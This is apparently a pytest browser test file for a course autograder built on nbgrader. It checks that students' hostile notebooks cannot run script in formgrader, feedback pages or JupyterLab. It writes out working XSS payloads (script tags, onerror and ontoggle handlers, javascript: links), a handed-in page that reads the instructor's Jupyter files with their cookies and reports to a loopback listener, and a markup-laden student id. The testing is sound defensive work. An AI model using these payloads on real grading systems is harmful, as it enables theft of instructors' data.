"""Nothing a student sends runs where the instructor looks (issue 23, point 1), in a real browser.

Two students hand in the same hostile work: the exercises solved, a figure, and a payload per route of the issue
(an HTML output with ``<script>`` and with ``<img onerror>``, a ``Javascript`` output, a ``Markdown`` output, an
object's ``_repr_html_``, raw HTML in markdown cells: ``<img onerror>``, ``<script>``, ``<details ontoggle>``, a
``javascript:`` link) and an HTML page beside the notebook. Each payload, when it runs, fetches its name from a
listener on loopback under the student's name. Real nbgrader grades "control" as nbgrader does without the course's
sanitizer, and "hostile" with the course's config; headless Chromium opens both in formgrader's manual-grading view
(JupyterLab started by ``./course.sh lab --instructor``, formgrader pointed at the course), on their feedback pages
and in the instructor's JupyterLab. Control proves each payload is live in this browser and view; hostile must
reach the listener from nowhere, and still show its figure and its text. The id route: a student id with markup in
an LMS zip is refused at collect; one that reaches the gradebook anyway, or the URL of one of formgrader's pages,
shows as text, escaped by the course's formgrader extension (`autograder.instructor.formgrader_escaping`).

Screenshots in test-artifacts/ (formgrader_hostile.png, feedback_hostile.png, lab_control.png, lab_hostile.png)."""

import shutil
import time
import urllib.error
import urllib.parse
import urllib.request
import warnings
import zipfile

import pytest
from sqlalchemy.exc import SAWarning

from autograder.instructor.course_layout import CONFIG, CourseLayout
from autograder.instructor.gradebook import open_gradebook
from tests.support.cli_workflow import COURSE_ID
from tests.support.course_lab import TOKEN, course_lab, listening
from tests.support.headless_chromium import CHROMEDRIVER, CHROMIUM, chromium, wait
from tools.checkout import TREE
from tools.nbgrader_course import cell_scores, completed_release, nbgrader, scratch_course, submit

pytestmark = [
    pytest.mark.nbgrader,
    pytest.mark.browser,
    pytest.mark.skipif(
        not (CHROMIUM and CHROMEDRIVER), reason="needs Debian's chromium and chromium-driver (.ci/run installs them)"
    ),
]

ASSIGNMENT = "03_attention"
ARTIFACTS = TREE.root / "test-artifacts"
OUTPUT_ROUTES = {"html-script", "html-img-onerror", "javascript-output", "markdown-output", "repr-html"}
MARKDOWN_ROUTES = {"md-img-onerror", "md-script", "md-details-ontoggle", "md-javascript-link"}
LINK_TEXT = "click for the answer"
FIGURE_TITLE = "an honest figure"
REMOVED_NOTE = "removed by the grader"
SANITIZERS = ("SanitizeOutputs", "RemoveHandedInFiles")
NOTEBOOK_TITLE = "Attention without trainable weights"


def call(beacon: str, route: str) -> str:
    return f"fetch('{beacon}{route}',{{mode:'no-cors'}})"  # no spaces: it is also a markdown link's address


def hostile_work(beacon: str) -> list:
    """The cells a hostile student adds to solved work: a figure and a payload per route."""
    from nbformat.v4 import new_code_cell, new_markdown_cell

    def html(route, markup):
        return markup.format(call(beacon, route))

    script = html("html-script", "<b>bold</b><script>{}</script>")
    image = html("html-img-onerror", '<img src=x onerror="{}">')
    markdown = html("markdown-output", '*md* <img src=x onerror="{}">')
    details = html("repr-html", '<details open ontoggle="{}"><summary>my answer</summary>42</details>')
    outputs = "\n".join(
        [
            "from IPython.display import HTML, Javascript, Markdown, display",
            f"display(HTML({script!r}))",
            f"display(HTML({image!r}))",
            f"display(Javascript({call(beacon, 'javascript-output')!r}))",
            f"display(Markdown({markdown!r}))",
            "class Answer:",
            "    def _repr_html_(self):",
            f"        return {details!r}",
            "Answer()",
        ]
    )
    figure = (
        "import matplotlib.pyplot as plt\n"
        f"plt.figure(figsize=(3, 2)); plt.plot([0, 1, 4]); plt.title({FIGURE_TITLE!r}); plt.show()"
    )
    return [
        new_code_cell(figure),
        new_code_cell(outputs),
        new_markdown_cell(html("md-img-onerror", 'My answer: <img src=x onerror="{}"> as written.')),
        new_markdown_cell(html("md-script", "<script>{}</script>\n\nSee the figure above.")),
        new_markdown_cell(
            html("md-details-ontoggle", '<details open ontoggle="{}"><summary>Why</summary>It sums.</details>')
        ),
        new_markdown_cell(f"[{LINK_TEXT}](javascript:{call(beacon, 'md-javascript-link')})"),
    ]


def handed_in_page(beacon: str) -> str:
    """A page handed in beside the notebook: it reports that it ran, then whether it could read the instructor's
    files through Jupyter's REST API with the browser's cookies."""
    api = (
        "fetch('/api/contents',{credentials:'include'}).then(response => response.json())"
        f".then(listing => {call(beacon, 'api-read')}).catch(error => {call(beacon, 'api-refused')})"
    )
    return f"<h1>notes</h1><script>{call(beacon, 'handed-in-file')}; {api}</script>"


def without_sanitizers(config: str) -> str:
    """The course's config without SanitizeOutputs and RemoveHandedInFiles in any pipeline: nbgrader as it was."""
    unsanitized = config
    for name in SANITIZERS:
        unsanitized = unsanitized.replace(f"    {name},\n", "").replace(f" {name},", "")
    listed = unsanitized.split("c.Autograde.sanitize_preprocessors", 1)[1]
    assert not any(name in listed for name in SANITIZERS) and unsanitized != config
    return unsanitized


@pytest.fixture(scope="module")
def listener():
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def course(tmp_path_factory, listener):
    """A course in a folder that the instructor's JupyterLab serves; "control" graded without the sanitizers,
    "hostile" with the course's config, both with feedback."""
    course = tmp_path_factory.mktemp("instructor") / "course"
    course.mkdir()
    scratch_course(course, [ASSIGNMENT])
    layout = CourseLayout(course)
    config = (course / CONFIG).read_text()
    for student, nbgrader_config in (("control", without_sanitizers(config)), ("hostile", config)):
        beacon = f"{listener.url}/{student}/"
        notebook = completed_release(ASSIGNMENT)
        notebook.cells += hostile_work(beacon)
        submit(course, student, ASSIGNMENT, notebook)
        page = layout.submitted(student, ASSIGNMENT) / "notes.html"
        page.write_text(handed_in_page(beacon))
        (page.parent / "timestamp.txt").write_text("2026-12-07 10:00:00.000000 UTC")  # as nbgrader submit writes it
        (course / CONFIG).write_text(nbgrader_config)
        nbgrader(course, "autograde", ASSIGNMENT, "--student", student, "--force")
        nbgrader(course, "generate_feedback", ASSIGNMENT, "--student", student, "--force")
    (course / CONFIG).write_text(config)
    return course


@pytest.fixture(scope="module")
def lab(course, tmp_path_factory):
    """`./course.sh lab --instructor` on the folder above the course, formgrader pointed at the course by the
    instructor's own nbgrader config (Jupyter's config folder): formgrader wants the course inside what it serves."""
    home = tmp_path_factory.mktemp("instructor-home")
    (home / "config").mkdir()
    # every cell rendered, not only those on screen (JupyterLab's windowing): each payload gets its chance to run
    tracker = home / "settings" / "@jupyterlab" / "notebook-extension" / "tracker.jupyterlab-settings"
    tracker.parent.mkdir(parents=True)
    tracker.write_text('{"windowingMode": "none"}')
    (home / "config" / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.root = {str(course)!r}\nc.CourseDirectory.course_id = {COURSE_ID!r}\n"
    )
    yield from course_lab(course.parent, home, "--instructor")


@pytest.fixture
def browser(tmp_path):
    with chromium(tmp_path / "chromium-profile") as driver:
        yield driver


def submission_id(course, student: str) -> str:
    with open_gradebook(course) as gradebook:
        return gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student).id


SCROLL_TO_LAST_FIGURE = (
    "const figures = [...document.querySelectorAll('img')].filter(image => image.src.startsWith('data:image/png'));"
    "figures[figures.length - 1].scrollIntoView({block: 'start'});"
)


def screenshot(browser, name: str):
    """The part of the page with the honest figure and the payloads below it."""
    browser.execute_script(SCROLL_TO_LAST_FIGURE)
    time.sleep(0.5)
    ARTIFACTS.mkdir(exist_ok=True)
    browser.save_screenshot(str(ARTIFACTS / name))
    assert (ARTIFACTS / name).stat().st_size > 10_000


CLICK_LINKS = (
    "[...document.querySelectorAll('a')].filter(a => a.textContent.includes(arguments[0])).forEach(a => a.click())"
)
FIGURES_SHOWN = (
    "return [...document.querySelectorAll('img')].filter(image => image.src.startsWith('data:image/png')"
    " && image.complete && image.naturalWidth > 0 && image.getBoundingClientRect().width > 0).length"
)


def open_and_wait(browser, url: str, ready_text: str):
    """Open ``url``, wait until the page is loaded and shows ``ready_text``, then click the answer's links."""
    browser.get(url)
    wait(browser).until(lambda driver: driver.execute_script("return document.readyState") == "complete")
    wait(browser).until(lambda driver: ready_text in driver.execute_script("return document.body.innerText"))
    browser.execute_script(CLICK_LINKS, LINK_TEXT)


def ran(listener, student: str, routes: set[str], seconds: float = 30) -> set[str]:
    """The routes of ``student`` that reached the listener, waiting up to ``seconds`` for all of ``routes``."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not routes <= listener.starting_with(f"/{student}/"):
        time.sleep(0.2)
    return listener.starting_with(f"/{student}/")


def test_formgraders_manual_grading_view_runs_nothing_and_shows_the_work(course, lab, listener, browser):
    page = f"{lab}/formgrader/submissions/{{}}/?token={TOKEN}"
    start = time.monotonic()
    open_and_wait(browser, page.format(submission_id(course, "control")), "Submission")
    assert ran(listener, "control", OUTPUT_ROUTES | MARKDOWN_ROUTES) >= OUTPUT_ROUTES | MARKDOWN_ROUTES
    control_seconds = time.monotonic() - start

    title = f"{ASSIGNMENT}"
    before = listener.starting_with("/hostile/")
    open_and_wait(browser, page.format(submission_id(course, "hostile")), "Submission")
    time.sleep(max(3.0, 2 * control_seconds))  # twice as long as every payload of control took to run
    assert listener.starting_with("/hostile/") == before == set()
    assert browser.title == title
    shown = browser.execute_script("return document.body.innerText")
    assert browser.execute_script(FIGURES_SHOWN) >= 1  # the honest figure
    for text in (NOTEBOOK_TITLE, "my answer", "See the figure above.", LINK_TEXT, REMOVED_NOTE):
        assert text in shown, text
    screenshot(browser, "formgrader_hostile.png")
    assert cell_scores(course, ASSIGNMENT, "hostile") == cell_scores(course, ASSIGNMENT, "control")


def test_a_page_handed_in_beside_the_notebook_is_not_served(course, lab, listener, browser):
    files = f"{lab}/formgrader/submissions/{{}}/notes.html?token={TOKEN}"
    browser.get(files.format(submission_id(course, "control")))
    # nbgrader as it was: formgrader serves it in the instructor's origin, and it reads the instructor's files
    assert ran(listener, "control", {"handed-in-file", "api-read"}) >= {"handed-in-file", "api-read"}
    before = listener.starting_with("/hostile/")
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(files.format(submission_id(course, "hostile")))
    assert refused.value.code == 404
    layout = CourseLayout(course)
    assert sorted(path.name for path in layout.autograded("hostile", ASSIGNMENT).iterdir()) == [
        f"{ASSIGNMENT}.ipynb",
        "timestamp.txt",
    ]
    assert sorted(path.name for path in layout.feedback("hostile", ASSIGNMENT).iterdir()) == [
        f"{ASSIGNMENT}.html",
        "timestamp.txt",
    ]
    # submitted/ keeps it, for the instructor to read as a file; JupyterLab serves it only under its sandbox policy
    # (CSP "sandbox allow-scripts": the page runs in an origin of its own, without the instructor's cookies)
    browser.get(f"{lab}/files/course/submitted/hostile/{ASSIGNMENT}/notes.html?token={TOKEN}")
    assert ran(listener, "hostile", before | {"api-refused"}) - before == {"handed-in-file", "api-refused"}
    assert "api-read" not in listener.starting_with("/hostile/")


def test_the_feedback_page_runs_nothing_and_shows_the_work(course, listener, browser):
    layout = CourseLayout(course)
    page = "{}/" + f"{ASSIGNMENT}.html"
    # Opened as a file: the Javascript output needs formgrader's jQuery, which the page loads from the network
    start = time.monotonic()
    open_and_wait(browser, page.format(layout.feedback("control", ASSIGNMENT).as_uri()), NOTEBOOK_TITLE)
    expected = (OUTPUT_ROUTES - {"javascript-output"}) | MARKDOWN_ROUTES
    assert ran(listener, "control", expected) >= expected
    control_seconds = time.monotonic() - start

    before = listener.starting_with("/hostile/")
    open_and_wait(browser, page.format(layout.feedback("hostile", ASSIGNMENT).as_uri()), NOTEBOOK_TITLE)
    time.sleep(max(3.0, 2 * control_seconds))
    assert listener.starting_with("/hostile/") == before
    shown = browser.execute_script("return document.body.innerText")
    assert browser.execute_script(FIGURES_SHOWN) >= 1
    assert "my answer" in shown and REMOVED_NOTE in shown
    screenshot(browser, "feedback_hostile.png")


def test_the_instructors_lab_runs_nothing(course, lab, listener, browser):
    """JupyterLab's notebook view sanitizes a notebook nobody trusted: neither student's graded notebook runs."""
    for student in ("control", "hostile"):
        before = listener.starting_with(f"/{student}/")
        browser.get(f"{lab}/lab/tree/course/autograded/{student}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb?reset&token={TOKEN}")
        wait(browser).until(
            lambda driver: (
                LINK_TEXT in driver.execute_script("return document.body.innerText")
                and driver.execute_script(FIGURES_SHOWN) >= 1
            )
        )
        browser.execute_script(CLICK_LINKS, LINK_TEXT)
        time.sleep(3)
        assert listener.starting_with(f"/{student}/") == before, student
        screenshot(browser, f"lab_{student}.png")


MARKUP_ID = "<img src=x onerror=document.title='id-ran'>"


def test_a_student_id_with_markup_never_reaches_formgrader(course, lab, browser, tmp_path):
    """The door: collect refuses an id with markup, and formgrader's list of students runs nothing."""
    from tests.support.cli_workflow import gpt_course  # the command line itself: its door

    download = tmp_path / "download.zip"
    with zipfile.ZipFile(download, "w") as archive:
        archive.writestr(f"{MARKUP_ID}_4711_assignsubmission_file_{ASSIGNMENT}.ipynb", "{}")
        archive.writestr(
            f"ann_4712_assignsubmission_file_{ASSIGNMENT}.ipynb", TREE.release_path(ASSIGNMENT).read_text()
        )
    printed = gpt_course("collect", ASSIGNMENT, "--course", course, "--zip", download)
    assert f"skipped {MARKUP_ID}_4711" in printed and "refused: the student id" in printed, printed
    assert CourseLayout(course).students("submitted", ASSIGNMENT) == ["ann", "control", "hostile"]
    with open_gradebook(course) as gradebook:
        assert sorted(student.id for student in gradebook.students) == ["control", "hostile"]

    browser.get(f"{lab}/formgrader/manage_students?token={TOKEN}")
    wait(browser).until(lambda driver: "hostile" in driver.execute_script("return document.body.innerText"))
    time.sleep(1)
    assert browser.title != "id-ran"


# What a page shows as text: its scripts' source left out (formgrader also puts ids in JavaScript strings)
SHOWN_TEXT = (
    "const body = document.body.cloneNode(true);"
    "body.querySelectorAll('script').forEach(script => script.remove());"
    "return body.textContent"
)


@pytest.fixture
def markup_student(course):
    """A student whose id carries markup, straight into the gradebook (as a hostile or hand-made row would get
    there, past the course's doors), with a graded submission: hostile's sanitized notebook."""
    layout = CourseLayout(course)
    with open_gradebook(course) as gradebook, warnings.catch_warnings():
        warnings.simplefilter("ignore", SAWarning)  # nbgrader's add_submission trips SQLAlchemy's autoflush warnings
        gradebook.add_student(MARKUP_ID)
        gradebook.add_submission(ASSIGNMENT, MARKUP_ID)
    shutil.copytree(layout.autograded("hostile", ASSIGNMENT), layout.autograded(MARKUP_ID, ASSIGNMENT))
    try:
        yield MARKUP_ID
    finally:
        with open_gradebook(course) as gradebook:
            gradebook.remove_student(MARKUP_ID)
        shutil.rmtree(layout.autograded(MARKUP_ID, ASSIGNMENT).parent)


def test_formgrader_shows_ids_and_its_urls_as_text(course, lab, browser, markup_student):
    """nbgrader prints ids and its URLs' segments unescaped (its Jinja2 environment has no autoescape, and its
    manual-grading view prints the id into nbconvert's output): the course's extension escapes both. Checked
    once by hand: with nbgrader's own formgrader extension instead, every page below sets the title."""
    # logged in as at JupyterLab's root (formgrader's pages set their login cookie for their own folder only)
    browser.get(f"{lab}/api/status?token={TOKEN}")
    quoted = urllib.parse.quote(markup_student, safe="")
    pages = {
        f"manage_students/{quoted}": "Students",
        f"manage_students/{quoted}/{ASSIGNMENT}": "Students",
        f"manage_submissions/{quoted}": "Assignments",
        f"gradebook/{quoted}/{quoted}": "Manual Grading",
        f"submissions/{submission_id(course, markup_student)}/": "Submission",
    }
    for page, ready_text in pages.items():
        open_and_wait(browser, f"{lab}/formgrader/{page}?token={TOKEN}", ready_text)
        time.sleep(1)  # the markup's image has failed to load by now (readyState "complete"): its handler had its turn
        assert browser.title != "id-ran", page
        assert browser.execute_script("return document.querySelectorAll('[onerror]').length") == 0, page
        assert markup_student in browser.execute_script(SHOWN_TEXT), page

    # formgrader's own list (drawn by its JavaScript, as text) and its honest pages are as they were
    browser.get(f"{lab}/formgrader/manage_students?token={TOKEN}")
    wait(browser).until(lambda driver: markup_student in driver.execute_script("return document.body.innerText"))
    assert browser.title != "id-ran"
    honest = {  # a text each page's JavaScript draws from formgrader's API, or the grading view's notebook
        "manage_assignments": ASSIGNMENT,
        f"manage_submissions/{ASSIGNMENT}": "hostile",
        "manage_students": "hostile",
        "manage_students/hostile": ASSIGNMENT,
        "gradebook": ASSIGNMENT,
        f"gradebook/{ASSIGNMENT}/{ASSIGNMENT}": "Submission #",
        f"submissions/{submission_id(course, 'control')}/": NOTEBOOK_TITLE,
    }
    for page, text in honest.items():
        with urllib.request.urlopen(f"{lab}/formgrader/{page}?token={TOKEN}") as response:
            assert response.status == 200, page
        open_and_wait(browser, f"{lab}/formgrader/{page}?token={TOKEN}", text)
    assert "control" in browser.execute_script(SHOWN_TEXT)  # the grading view names its student
